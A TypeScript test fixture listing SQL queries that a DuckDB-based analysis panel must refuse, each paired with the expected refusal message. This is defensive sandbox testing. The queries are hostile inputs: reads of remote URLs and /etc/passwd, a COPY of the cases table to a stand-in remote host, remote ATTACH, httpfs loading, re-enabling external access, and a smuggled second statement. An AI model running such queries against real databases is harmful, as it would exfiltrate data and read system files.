/**
 * Queries an analyst might paste that would reach outside the page, and what the SQL panel must
 * say to each (in English). Shared by the Node test (tests/sql/offline.test.ts) and the browser's
 * (tests/e2e/offline.test.ts): the same engine must refuse them in both.
 */
export const OFF = '203.0.113.9';

export interface Attack {
  sql: string;
  /** What the panel says. */
  message: RegExp;
}

const offline = (path: string) =>
  new RegExp(
    `^The SQL panel reads only the loaded tables: “${path.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}” names a file or an address`,
  );
const readOnly = (word: string) => new RegExp(`^The SQL panel is read-only: .* not ${word}\\.$`);

export const ATTACKS: Attack[] = [
  {
    sql: `SELECT * FROM read_csv('http://${OFF}/z.csv')`,
    message: offline(`http://${OFF}/z.csv`),
  },
  { sql: `FROM 'https://${OFF}/z.parquet'`, message: offline(`https://${OFF}/z.parquet`) },
  {
    sql: `SELECT origin FROM cases UNION ALL SELECT content FROM read_text('https://${OFF}/q?d=x')`,
    message: offline(`https://${OFF}/q?d=x`),
  },
  { sql: "SELECT * FROM read_csv('/etc/passwd')", message: offline('/etc/passwd') },
  { sql: "SELECT * FROM glob('*')", message: offline('*') },
  { sql: `COPY cases TO 'http://${OFF}/out.csv'`, message: readOnly('COPY') },
  { sql: "COPY (SELECT * FROM cases) TO 'out.csv'", message: readOnly('COPY') },
  { sql: `ATTACH 'https://${OFF}/x.duckdb' AS x`, message: readOnly('ATTACH') },
  { sql: 'INSTALL httpfs', message: readOnly('INSTALL') },
  { sql: 'LOAD httpfs', message: readOnly('LOAD') },
  { sql: 'SET enable_external_access = true', message: readOnly('SET') },
  { sql: 'SET lock_configuration = false', message: readOnly('SET') },
  { sql: 'RESET lock_configuration', message: readOnly('RESET') },
  {
    sql: 'SELECT 1) AS q; SET enable_external_access = true; SELECT * FROM (SELECT 1',
    message: /^One query at a time: the text holds more than one statement\.$/,
  },
  {
    sql: "SELECT * FROM query('SET enable_external_access = true')",
    message: /single SELECT/,
  },
];
